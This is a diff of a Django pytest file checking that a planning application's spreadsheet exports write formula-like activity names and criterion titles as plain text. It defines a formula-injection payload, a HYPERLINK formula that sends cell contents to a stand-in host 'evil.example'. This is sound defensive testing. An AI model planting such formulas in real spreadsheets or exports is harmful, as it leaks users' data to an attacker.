@@ -5,16 +5,16 @@ from __future__ import annotations
 import csv
 import io
 from collections.abc import Callable
+from datetime import date
 
 import pytest
 from django.test import Client
 from openpyxl import Workbook, load_workbook
 
-from helhedsplan.activities.models import Activity
-from helhedsplan.criteria.models import SuccessCriterion
 from helhedsplan.lib.spreadsheets import csv_safe, csv_writer, looks_like_formula, xlsx_text_only
 from helhedsplan.plans.models import Plan
 from helhedsplan.reports.exporters import export_url
+from tests import factories
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1;"klik")'
 
@@ -34,8 +34,11 @@ def _cells(content: bytes) -> list[tuple[object, str]]:
 def test_activity_exports_write_a_formula_like_name_as_text(
     plan: Plan, client_for: Callable[[str], Client], exporter: str, query: dict[str, int]
 ) -> None:
-    # The demo plan's activities, one renamed to what an attacker would type.
-    Activity.objects.filter(plan=plan, slug="tryghedsvandringer").update(name=EVIL)
+    # An activity named what an attacker would type, planned and held in 2018.
+    area = plan.areas.first()
+    activity = factories.ActivityFactory(plan=plan, name=EVIL)
+    factories.PlannedQuantityFactory(activity=activity, area=area, year=2018)
+    factories.RegistrationFactory(activity=activity, area=area, date=date(2018, 5, 14))
     response = client_for("secretariat").get(export_url(plan, exporter, "xlsx", **query))
     cells = _cells(response.content)
     assert (EVIL, "s") in cells
@@ -45,7 +48,7 @@ def test_activity_exports_write_a_formula_like_name_as_text(
 def test_scorecard_export_writes_a_formula_like_title_as_text(
     plan: Plan, client_for: Callable[[str], Client]
 ) -> None:
-    SuccessCriterion.objects.filter(plan=plan, code="5.2.2").update(title=EVIL)
+    factories.TargetFactory(criterion=factories.SuccessCriterionFactory(plan=plan, title=EVIL))
     url = export_url(plan, "succeskriterier", "xlsx", aar=2016)
     cells = _cells(client_for("secretariat").get(url).content)
     assert (EVIL, "s") in cells
